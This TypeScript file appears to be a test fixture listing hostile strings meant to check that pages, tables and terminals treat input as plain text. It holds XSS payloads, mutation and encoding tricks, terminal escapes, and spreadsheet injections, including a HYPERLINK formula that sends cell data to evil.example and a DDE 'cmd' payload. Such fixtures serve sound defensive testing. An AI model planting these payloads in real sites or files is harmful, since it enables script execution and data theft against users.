/**
 * Texts that would do harm in a page, a table or a terminal that took them for more than text. Each fits into a name, and
 * those that could run call `alert`, which no page of ours ever does.
 */
export const hostile: readonly string[] = [
  // Scripts and handlers
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '</script><script>alert(3)</script>',
  '<img src=x onerror=alert(4)>',
  '<img/src=`x`onerror=alert(5)>',
  '<body onload=alert(6)>',
  '<input autofocus onfocus=alert(7)>',
  '<details open ontoggle=alert(8)>',
  '<marquee onstart=alert(9)>m</marquee>',
  '<video><source onerror=alert(10)></video>',
  '<audio src=x onerror=alert(11)>',
  '<div style="animation-name:x" onanimationstart=alert(12)>d</div>',
  // Other vocabularies inside HTML
  '<svg onload=alert(13)>',
  '<svg><script>alert(14)</script></svg>',
  '<svg><animate onbegin=alert(15) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(16)"><text y=9>x</text></a></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(17)>x</maction></math>',
  // Frames, objects, and what changes the page as a whole
  '<iframe src=javascript:alert(18)></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(19)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(20)</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(21)>">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example/><button>继续</button></form>',
  // Links
  'javascript:alert(26)',
  '<a href="java&#x09;script:alert(27)">点此查看</a>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgyOCk8L3NjcmlwdD4=',
  '[点此查看](javascript:alert(29))',
  '![x](https://evil.example/x.png"onerror="alert(30))',
  '<https://evil.example/x> https://evil.example/x //evil.example',
  // Out of attributes, comments and raw text
  '"><img src=x onerror=alert(32)>',
  "' onmouseover='alert(33)' x='",
  '" autofocus onfocus="alert(34)" x="',
  '`-alert(35)-`',
  '--><script>alert(36)</script><!--',
  '</textarea><script>alert(37)</script>',
  '</title><svg onload=alert(38)>',
  '<![CDATA[<script>alert(39)</script>]]>',
  '</style><script>alert(40)</script>',
  // Templates
  "{{constructor.constructor('alert(41)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of others
  '${alert(42)}#{alert(42)}<%=alert(42)%>',
  '{a|alert(43)} {b}%s%d{0}{name}',
  '<template><script>alert(44)</script></template>',
  // What becomes markup when it is parsed, decoded or normalized twice
  '<noscript><p title="</noscript><img src=x onerror=alert(45)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=alert(46)&gt;">',
  '&lt;script&gt;alert(47)&lt;/script&gt;',
  '%3Cscript%3Ealert(48)%3C/script%3E',
  '+ADw-script+AD4-alert(49)+ADw-/script+AD4-',
  '\uff1cscript\uff1ealert(50)\uff1c/script\uff1e',
  '\\u003cscript\\u003ealert(51)\\x3c/script\\x3e',
  // What reorders, hides or joins signs
  '\u202egnp.\u2066exe\u2069 \u200b\u200e王\u200f某\ufeff',
  '<scr\u200bipt>alert(53)</scr\u0000ipt>',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0337lgo \u0645\u0631\u062d\u0628\u0627 👩\u200d👩\u200d👧 e\u0301',
  // Styles
  '<style>*{display:none;background:url(//evil.example/)}</style>',
  'x;}body{background:url(javascript:alert(56))}',
  // Names that a page or an object has already
  '__proto__ constructor prototype toString',
  '<img name=cookie><form id=main name=getElementById>',
  // Spreadsheets and terminals
  '=HYPERLINK("https://evil.example/?"&A1,"点此") +cmd|\' /C calc\'!A0 @SUM(1)',
  '\u001b[2J\u001b]0;evil\u0007\u001b[31m红\u009b0m',
];
